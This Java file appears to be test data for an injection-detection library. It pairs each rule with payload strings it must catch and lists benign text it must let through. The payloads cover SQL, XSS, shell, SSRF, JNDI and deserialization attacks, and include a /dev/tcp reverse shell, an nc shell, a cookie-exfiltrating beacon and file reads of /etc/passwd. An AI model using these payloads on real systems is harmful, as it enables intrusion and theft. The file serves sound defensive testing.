// SPDX-License-Identifier: Apache-2.0
package dev.lambdaguardrails.validation.injection;

import java.util.List;
import java.util.Map;

/**
 * For each rule what it must see, and what looks like it and is none; of our own writing. Long
 * because it is the list of the rules.
 */
final class RuleTable {

  /** Attacks, by the rule that must be among those that see them. */
  static final Map<InjectionRule, List<String>> SEEN =
      Map.ofEntries(
          Map.entry(
              InjectionRule.SQL_TAUTOLOGY,
              List.of(
                  "3 or 8=8",
                  "9) or ('q'='q",
                  "7 || 'a'='a'",
                  "5 and 4=4-- ",
                  "2 or pet=pet",
                  "1 or 1 like 1",
                  "6 and (select 1)=1",
                  "or 3=3",
                  "1/**/or/**/2=2")),
          Map.entry(
              InjectionRule.SQL_BREAKOUT,
              List.of(
                  "kim'--",
                  "kim' #",
                  "kim')-- -",
                  "k' or 'm'='m",
                  "' or 6-- ",
                  "\" or true--",
                  "u'='u",
                  "x'||'y",
                  "7' and sleep(3)='")),
          Map.entry(
              InjectionRule.SQL_UNION,
              List.of(
                  "0 union select 1,2,3",
                  "9' UnIoN aLl SeLeCt null,null-- ",
                  "4 union(select pin from cards)",
                  "8 union/*!50000select*/ 1",
                  "z' union distinct select @@version#")),
          Map.entry(
              InjectionRule.SQL_STACKED,
              List.of(
                  "1;drop table invoices",
                  "5'; delete from carts where 1=1--",
                  "2; exec xp_cmdshell 'dir'",
                  "7;insert into admins values(1)",
                  "a'; shutdown--")),
          Map.entry(
              InjectionRule.SQL_STATEMENT,
              List.of(
                  "select * from cards where pan='4'",
                  "update users set role='admin' where id=1",
                  "insert into t(a) values(1)",
                  "declare @q varchar(99)")),
          Map.entry(
              InjectionRule.SQL_FUNCTION,
              List.of(
                  "1-pg_sleep(7)",
                  "8 and benchmark(90000,md5(1))",
                  "0 or extractvalue(1,concat(0x7e,user()))",
                  "' union select load_file('/x')#",
                  "3;select utl_http.request('http://h')from dual")),
          Map.entry(
              InjectionRule.SQL_CATALOG,
              List.of(
                  "0 union select table_name from information_schema.tables",
                  "1 and @@version>5",
                  "2 and (select name from sysobjects)='a'")),
          Map.entry(
              InjectionRule.SQL_COLUMN_COUNT,
              List.of("1 order by 9-- ", "k' order by 4#", "5 group by 2,3--")),
          Map.entry(InjectionRule.SQL_FRAGMENT, List.of("age > 3 and pin=4")),
          Map.entry(
              InjectionRule.NOSQL_OPERATOR,
              List.of("{\"pin\":{\"$gt\":\"\"}}", "pin[$ne]=1", "{\"a\":{\"$regex\":\"^x\"}}")),
          Map.entry(
              InjectionRule.NOSQL_SCRIPT,
              List.of(
                  "{\"$where\":\"this.pin.length>0\"}",
                  "a'; return true; var b='",
                  "q' || this.role=='admin")),
          Map.entry(
              InjectionRule.HTML_ELEMENT,
              List.of(
                  "<script>go()</script>",
                  "<ScRiPt src=//h.example/a.js>",
                  "<iframe src=//h.example>",
                  "<object data=x>",
                  "<base href=//h.example/>",
                  "</textarea><b>")),
          Map.entry(
              InjectionRule.HTML_HANDLER,
              List.of(
                  "<b onclick=go()>",
                  "<img src=1 onerror='go()'",
                  "\" onfocus=go() autofocus x=\"",
                  "<q/onmouseover = \"go()\">")),
          Map.entry(
              InjectionRule.HTML_SCRIPT_URL,
              List.of(
                  "<a href=javascript:go()>",
                  "javascript:go()",
                  "java\tscript:go()",
                  "[x](javascript:go())",
                  "<a href=' data:text/html;base64,PGI+'>")),
          Map.entry(
              InjectionRule.HTML_STYLE,
              List.of("<p style=\"width:expression(go())\">", "<p style='-moz-binding:url(//h)'>")),
          Map.entry(
              InjectionRule.HTML_SCRIPT,
              List.of(
                  "';alert(9)//",
                  "\"-prompt(9)-\"",
                  "eval('1+1')",
                  "new Image().src='//h/'+document.cookie",
                  "[].constructor.constructor('go()')()",
                  "window['ale'+'rt'](9)",
                  "alert`9`")),
          Map.entry(InjectionRule.HTML_TAG, List.of("<b>bold</b>")),
          Map.entry(
              InjectionRule.SHELL_COMMAND,
              List.of(
                  ";whoami",
                  "a.png; wget http://h.example/p",
                  "10.0.0.9 && nslookup h.example",
                  "|id",
                  "x | cat /opt/key",
                  "a.txt;/usr/bin/env")),
          Map.entry(
              InjectionRule.SHELL_SUBSTITUTION,
              List.of(
                  "$(whoami)", "`uname -a`", "a$(curl h.example)b", "x`id`y", "<(cat /opt/key)")),
          Map.entry(
              InjectionRule.SHELL_DISGUISE,
              List.of(
                  ";c\\at${IFS}k",
                  ";w'h'oami",
                  "cat$IFS/opt/key",
                  "{wget,h.example}",
                  ";who$@ami")),
          Map.entry(
              InjectionRule.SHELL_CALL,
              List.of(
                  "system('id')",
                  "exec(\"ls\")",
                  "phpinfo()",
                  "os.system('id')",
                  "<?php echo 1;system($_GET[1]);")),
          Map.entry(
              InjectionRule.SHELL_LINE,
              List.of(
                  "() { :;}; echo x",
                  "bash -i >& /dev/tcp/9.9.9.9/99",
                  "nc 9.9.9.9 99 -e /bin/sh",
                  "python -c 'import os'")),
          Map.entry(
              InjectionRule.PATH_CLIMB,
              List.of(
                  "../../../opt/key",
                  "..\\..\\key",
                  "....//....//key",
                  "/a/..;/b/../c",
                  "../key",
                  "a/../../../b c")),
          Map.entry(
              InjectionRule.PATH_SYSTEM_FILE,
              List.of(
                  "/etc/passwd",
                  "C:\\boot.ini",
                  "php://filter/read=string.rot13/resource=a",
                  "/WEB-INF/web.xml",
                  "see /etc/shadow please")),
          Map.entry(
              InjectionRule.URL_INTERNAL,
              List.of(
                  "http://169.254.169.254/latest/meta-data/",
                  "http://10.9.8.7/admin",
                  "http://[::1]:9001/",
                  "http://127.9.9.9/",
                  "http://metadata.google.internal/x")),
          Map.entry(
              InjectionRule.URL_DISGUISE,
              List.of(
                  "http://2852039166/",
                  "http://0xa9fea9fe/",
                  "http://0251.0376.0251.0376/",
                  "http://shop.example@9.9.9.9/")),
          Map.entry(
              InjectionRule.URL_SCHEME,
              List.of(
                  "gopher://h.example:25/_x",
                  "file:///opt/key",
                  "dict://h:11211/s",
                  "jar:http://h.example/a.jar!/")),
          Map.entry(
              InjectionRule.URL_CALLBACK,
              List.of(
                  "see http://q1.oastify.com/x", "https://webhook.site/4", "http://a.b.oast.fun")),
          Map.entry(InjectionRule.URL_LOCAL, List.of("open http://localhost:3000 in a browser")),
          Map.entry(
              InjectionRule.TEMPLATE_EXPRESSION,
              List.of(
                  "{{8*8}}",
                  "${9*9}",
                  "#{3+4}",
                  "{{config}}",
                  "{{a.constructor('go()')()}}",
                  "{{'a'.concat('b')}}")),
          Map.entry(
              InjectionRule.TEMPLATE_REFLECTION,
              List.of(
                  "''.__class__.__mro__",
                  "${T(java.lang.Runtime)}",
                  "%{(#rt=@java.lang.Runtime@getRuntime())}",
                  "x.getClass().forName('a')")),
          Map.entry(
              InjectionRule.TEMPLATE_DIRECTIVE,
              List.of(
                  "<%= 8*8 %>",
                  "<#assign a=1>", "#set($a=1)", "<!--#exec cmd=\"id\"-->", "{% include 'x' %}")),
          Map.entry(
              InjectionRule.JNDI_LOOKUP,
              List.of(
                  "${jndi:rmi://h.example/a}",
                  "${${::-j}${::-n}${::-d}${::-i}:ldap://h/a}",
                  "${${lower:j}${lower:n}di:ldap://h/a}")),
          Map.entry(
              InjectionRule.JNDI_NESTED,
              List.of("${env:TOKEN}", "${${env:A:-b}c}", "${sys:user.home}")),
          Map.entry(
              InjectionRule.LDAP_FILTER,
              List.of("*)(uid=*", "kim)(&(pin=*", "a)(|(b=c)", "(&(cn=a)(pin=*))")),
          Map.entry(
              InjectionRule.XPATH_EXPRESSION,
              List.of(
                  "'] | //pin/* | x['",
                  "' or count(//pin)=1 or 'a'='b",
                  "x/parent::node()/pin",
                  "' or substring(name(/*[1]),1,1)='p")),
          Map.entry(
              InjectionRule.XML_ENTITY,
              List.of(
                  "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
                  "<!DOCTYPE a SYSTEM \"http://h/a.dtd\">")),
          Map.entry(
              InjectionRule.XML_INCLUSION,
              List.of("<xi:include href=\"a\"/>", "<![CDATA[<]]>script<![CDATA[>]]>")),
          Map.entry(
              InjectionRule.LINE_HEADER,
              List.of(
                  "x\r\nSet-Cookie: a=b",
                  "x%0d%0aLocation: //h.example",
                  "k@x.example%0ABcc: z@x.example")),
          Map.entry(
              InjectionRule.LINE_ENCODED, List.of("x%0d%0a%0d%0a<b>", "kim\nERROR disk is full")),
          Map.entry(
              InjectionRule.SERIAL_OBJECT,
              List.of("rO0ABXQAAWE=", "O:4:\"User\":1:{s:1:\"a\";i:1;}", "aced000574000161")),
          Map.entry(
              InjectionRule.SERIAL_TYPE,
              List.of(
                  "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
                  "!!javax.script.ScriptEngineManager []",
                  "<object class=\"java.lang.Runtime\"/>")),
          Map.entry(
              InjectionRule.PROTOTYPE_PROPERTY,
              List.of(
                  "{\"__proto__\":{\"a\":1}}",
                  "a[constructor][prototype][b]=1",
                  "class.classLoader.x=1")));

  /** What people write, and a reader by single words would refuse. */
  static final List<String> ORDINARY =
      List.of(
          "Sean O'Malley-D'Souza",
          "the boys' and girls' teams",
          "5' 11\"",
          "Smith & Sons (est. 1920)",
          "Tom & Jerry <3",
          "a<b and b>c",
          "if x < 3 or y > 4 then stop",
          "drop table lamp; select one",
          "Select all that apply, or none",
          "select a seat from the plan",
          "Insert card, then order by phone",
          "union of workers; select committee",
          "DELETE this line",
          "I like it -- really",
          "Rock'n'roll",
          "It's 5 o'clock; time to go",
          "Create or replace a view",
          "having fun & cat pictures",
          "ID | NAME | DATE",
          "yes|no|maybe",
          "cats; dogs; who knows",
          "R&D",
          "AT&T",
          "Q&A; more",
          "C# and F#",
          "50% off + 10%",
          "100% sure",
          "#1 fan",
          "a -> b",
          "x = y + 1",
          "f(x) = (x+1)(x-1)",
          "1+1=2",
          "{{first_name}} {{ user.last_name }}",
          "Dear {{#if vip}}friend{{/if}}",
          "${name}",
          "${{ github.ref }}",
          "{ color: red; }",
          "<b>bold</b> and <a href=\"https://shop.example/\">link</a>",
          "<3 you",
          "<none>",
          "List<String>",
          "Map<String, List<Integer>> m;",
          "<!DOCTYPE html>",
          "<?xml version=\"1.0\"?><a/>",
          "Use `ls` and `cat` to look",
          "Run `npm install`; then `npm test`.",
          "see [docs](../guide/intro.md)",
          "../images/logo.png is missing here",
          "and so on...",
          "wait... / what?",
          "C:\\temp\\notes.txt",
          "/home/kim/notes.txt",
          "https://shop.example/?a=1&b=2#top",
          "http://user:pw@shop.example/",
          "mailto:kim@x.example",
          "kim+news@x.example",
          "Note: call me\nTo do: shop",
          "Dear all,\nSubject to change",
          "function(a) { return a; }",
          "alert(s) and prompt(s)",
          "The system is down (again)",
          "evaluate(x)",
          "confirm the order",
          "onion=1",
          "once = never",
          "style guide",
          "data: see below",
          "JavaScript: the good parts",
          "order by friday",
          "or maybe 2 or 3",
          "5 or 6 of them",
          "1950 or 1960",
          "{\"name\":\"O'Neil\",\"or\":1,\"select\":\"all\"}",
          "{\"a\":[1,2,{\"b\":\"c; d\"}]}",
          "a && b || c",
          "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/20100101",
          "text/html; charset=utf-8",
          "2026-11-22T08:00:00Z INFO [main] started in 3.2 s (pid=7)",
          "arn:aws:s3:::bucket/*",
          "src/**/*.java",
          "*.example.com",
          "WHERE IS GEORGE?",
          "(brass) pen",
          "don't; can't; won't",
          "Größe: 42 — naïve café",
          "“quoted” and ‘quoted’",
          "東京（とうきょう）",
          "Привет, мир",
          "שלום",
          "مرحبا",
          "🙂👍🏽",
          "½ cup",
          "n° 5",
          "¿Qué?",
          "price: $5; tax: $1",
          "a $b c",
          "cost ~ 3^2",
          "std::vector<int> v;",
          "key=value; path=/; secure",
          "let's cut; then paste",
          "cut & paste",
          "kill two birds; save time");

  private RuleTable() {}
}
